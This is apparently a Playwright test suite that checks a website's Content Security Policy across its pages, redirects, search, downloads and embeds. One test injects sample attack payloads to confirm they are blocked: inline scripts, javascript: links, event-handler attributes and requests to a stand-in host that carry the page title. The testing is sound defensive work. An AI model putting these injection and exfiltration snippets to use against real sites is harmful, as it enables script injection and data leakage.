"""What the policy of each page refuses: nothing that the site does, and all that it does not."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.incidents import Incidents, Kind
from tests.browser.pages.board_page import MY_FOLLOW_UPS
from tests.browser.pages.coaches_pages import ADDRESSES, COACHES, HANDOUT, CoachesPage
from tests.browser.pages.message_page import THANK_YOU, MessagePage
from tests.browser.pages.site_page import SitePage
from tests.browser.pages.timeline_page import AFTER_INTERVIEW, ARTICLE, HOME, TimelinePage
from tests.browser.visitors import OpenPage, Visitor

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAGES = [
    *(HOME, AFTER_INTERVIEW, THANK_YOU, ARTICLE, "checklists/stop-dwelling/", MY_FOLLOW_UPS),
    *("timelines/", "messages/", "checklists/", "articles/", "about/", "privacy/", "accessibility/"),
    *(COACHES, HANDOUT, ADDRESSES, "coaches/embedding/", "coaches/authoring/", "404.html"),
    *("embed/timelines/after-interview/", "embed/messages/thank-you/"),
]
REDIRECTS = ["go/interview/", "go/stop/"]

# The fixture `incidents` fails on what the console says of a violation, in frames too; a page hears its own.
_LISTEN = """window.violations = [];
addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) =>
  window.violations.push(`${effectiveDirective} ${blockedURI}`));"""

_TRY = """async () => {
  const added = (name, attributes) => Object.assign(document.createElement(name), attributes);
  document.body.append(added("script", {textContent: "window.hacked = 'a script in the page'"}));
  const link = added("a", {href: "javascript:window.hacked = 'an address'"});
  document.body.append(link);
  link.click();
  document.body.append(added("style", {textContent: "h1 { color: rgb(1, 2, 3) !important }"}));
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.hacked = 'an attribute'");
  button.click();
  setTimeout("window.hacked = 'a text'");
  const sent = await fetch("https://elsewhere.example/").then(() => "sent", () => "");
  const picture = new Image();
  picture.src = "https://elsewhere.example/picture.png?" + document.title;
  const loaded = await picture.decode().then(() => "loaded", () => "");
  const color = getComputedStyle(document.querySelector("h1")).color;
  return [window.hacked ?? "", sent, loaded, color === "rgb(1, 2, 3)" ? "a style" : ""].filter(Boolean);
}"""


def open_watched(open_page: OpenPage) -> Page:
    page = open_page(Visitor(searches=True))
    page.add_init_script(_LISTEN)
    return page


def violations(page: Page) -> list[str]:
    """Return what the policy of the page has refused since it was opened."""
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.mark.parametrize(
    ("site", "addresses"), [("root", PAGES), ("sub-path", [HOME, THANK_YOU, COACHES])], indirect=["site"]
)
def test_every_page_works_within_its_policy(open_page: OpenPage, addresses: list[str]) -> None:
    page = open_watched(open_page)
    for address in addresses:
        SitePage.open(page, address)
        policy = (
            page.locator("head meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
        )
        assert policy.startswith("default-src 'self'; object-src 'none'; script-src 'self'"), address
        assert violations(page) == [], address
    for address in REDIRECTS:
        page.goto(address, wait_until="commit")
        page.wait_for_url(lambda url: "/go/" not in url)


def test_the_search_and_the_switch_for_dark_work_within_it(open_page: OpenPage) -> None:
    page = open_watched(open_page)
    SitePage.open(page, HOME)
    page.get_by_title("Switch to dark mode").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("thank you")
    page.clock.set_fixed_time("2026-11-19T09:01:00-05:00")  # it waits for a moment without a key
    expect(page.locator(".md-search-result__link").filter(visible=True).first).to_be_visible()
    assert violations(page) == []
    page.keyboard.press("Enter")
    page.wait_for_url("**/?h=*")
    SitePage(page).awake()
    assert violations(page) == []


def test_what_is_fetched_on_request_is_within_it(open_page: OpenPage) -> None:
    page = open_watched(open_page)
    timeline = TimelinePage.open(page, AFTER_INTERVIEW)
    timeline.enter_interview_date("2026-11-19")
    assert timeline.is_planned()
    timeline.open_calendar()
    assert timeline.download_calendar().suggested_filename.endswith(".ics")
    assert violations(page) == []
    message = MessagePage.open(page, THANK_YOU)
    assert message.save("Word (.docx)").suggested_filename.endswith(".docx")
    assert violations(page) == []
    coaches = CoachesPage.open(page, COACHES)
    coaches.open_code()
    expect(coaches.code).to_be_visible()
    assert coaches.download("Download PNG").stat().st_size > 0
    expect(coaches.client_view.locator("h1")).to_be_visible()
    assert violations(page) == []


@pytest.mark.parametrize("address", [HOME, "embed/messages/thank-you/"])
def test_what_is_slipped_into_a_page_does_not_run(
    open_page: OpenPage, incidents: Incidents, address: str
) -> None:
    page = open_watched(open_page)
    SitePage.open(page, address)
    incidents.expect(Kind.CONSOLE_ERROR, "Content Security Policy")
    incidents.expect(Kind.FOREIGN_REQUEST, "https://elsewhere.example/")
    incidents.expect(Kind.FAILED_REQUEST, "csp https://elsewhere.example/")
    assert page.evaluate(_TRY) == []
    # Each is told in a task of its own.
    page.wait_for_function("() => new Set(window.violations.map(one => one.split(' ')[0])).size >= 6")
    refused = {violation.partition(" ")[0] for violation in violations(page)}
    assert refused == {
        *("script-src", "script-src-elem", "script-src-attr"),
        *("style-src-elem", "connect-src", "img-src"),
    }
